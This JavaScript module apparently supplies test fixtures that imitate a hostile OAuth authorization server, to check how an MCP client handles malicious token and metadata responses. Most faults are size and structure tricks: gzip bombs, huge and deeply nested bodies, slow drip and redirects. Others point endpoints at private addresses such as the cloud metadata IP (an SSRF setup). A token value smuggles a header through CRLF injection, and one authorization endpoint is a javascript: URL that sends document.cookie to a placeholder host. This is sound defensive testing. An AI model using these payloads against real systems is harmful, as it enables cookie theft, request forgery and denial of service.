// What a hostile authorization server answers. Each fault is a set of documents by path; what it
// leaves out is answered as an honest one would.
import { gzipSync } from 'node:zlib';
import { json, vendorFaults } from './vendor_faults.mjs';

const resourcePath = '/.well-known/oauth-protected-resource/mcp';
const serverPath = '/.well-known/oauth-authorization-server';

const resource = (origin, more = {}) => JSON.stringify({ resource: `${origin}/mcp`, authorization_servers: [origin], ...more });
const server = (origin, more = {}) =>
  JSON.stringify({
    issuer: origin,
    authorization_endpoint: `${origin}/authorize`,
    token_endpoint: `${origin}/token`,
    response_types_supported: ['code'],
    code_challenge_methods_supported: ['S256'],
    ...more,
  });

const saying = (text, headers) => (response) => json(response, text, headers);
const metadata = (more) => ({ [serverPath]: (response, origin) => json(response, server(origin, more)) });
const asVendor = (fault) => (response, origin, fixture) => vendorFaults[fault](response, 1, fixture);
const token = (text, headers) => ({ '/token': saying(text, headers) });

export const authorizationFaults = {
  'token-error-with-200': token('{"error":"invalid_grant","error_description":"no"}'),
  'token-that-is-html': { '/token': asVendor('html') },
  'token-slow-drip': { '/token': asVendor('slow-drip-body') },
  'token-gzip-bomb': { '/token': asVendor('gzip-bomb') },
  'token-gigabyte': { '/token': asVendor('gigabyte-body') },
  'token-redirect': { '/token': asVendor('redirect-to-loopback') },
  'token-twice': token('{"token_type":"bearer","access_token":"a","access_token":"b"}'),
  'token-splits-header': token('{"token_type":"bearer","access_token":"a\\r\\nX-Injected: 1"}'),
  'other-issuer': metadata({ issuer: 'https://issuer.other.example' }),
  'private-address': metadata({ token_endpoint: 'https://10.0.0.8/token' }),
  'private-address-as-number': metadata({ token_endpoint: 'https://0x7f.1/token' }),
  'private-address-v6': metadata({ token_endpoint: 'https://[::ffff:169.254.169.254]/token' }),
  'private-name': metadata({ token_endpoint: 'https://vault.internal/token' }),
  'private-answer': metadata({ token_endpoint: 'https://rebound.example.com/token' }),
  'private-registration': metadata({ registration_endpoint: 'https://192.168.1.1/register' }),
  'script-endpoint': metadata({ authorization_endpoint: "javascript:fetch('https://x.example/'+document.cookie)" }),
  'data-endpoint': metadata({ authorization_endpoint: 'data:text/html,<script>1</script>' }),
  'clear-endpoint': metadata({ token_endpoint: 'http://token.other.example/token' }),
  'without-proof-key': metadata({ code_challenge_methods_supported: undefined }),
  'metadata-named-twice': {
    [serverPath]: (response, origin) => json(response, server(origin).replace('{', '{"token_endpoint":"https://other.example/t",')),
  },
  'metadata-deep': { [serverPath]: saying('{"issuer":' + '['.repeat(100_000)) },
  'metadata-gigabyte': { [serverPath]: asVendor('gigabyte-body') },
  'metadata-many-members': {
    [serverPath]: saying(`{${Array.from({ length: 12_000 }, (_, i) => `"member_${i}":1`).join()},"issuer":1}`),
  },
  'metadata-gzip-bomb': { [serverPath]: asVendor('gzip-bomb') },
  'metadata-slow-drip': { [serverPath]: asVendor('slow-drip-body') },
  'metadata-redirect': { [serverPath]: asVendor('redirect-to-loopback') },
  'metadata-redirect-loop': {
    [serverPath]: (response) => response.writeHead(302, { Location: serverPath }).end(),
  },
  'metadata-packed-honestly': {
    [serverPath]: (response, origin) => json(response, gzipSync(server(origin)), { 'Content-Encoding': 'gzip' }),
  },
  'resource-of-another': {
    [resourcePath]: (response, origin) => json(response, resource(origin, { resource: 'https://mcp.other.example/mcp' })),
  },
  'private-authorization-server': {
    [resourcePath]: (response, origin) => json(response, resource(origin, { authorization_servers: ['https://127.0.0.1/'] })),
  },
};

export function answerAuthorization(fault, path, response, origin, fixture) {
  const own = authorizationFaults[fault][path];
  if (own) return own(response, origin, fixture);
  if (path === resourcePath) return json(response, resource(origin));
  if (path === serverPath) return json(response, server(origin));
  return response.writeHead(404).end();
}
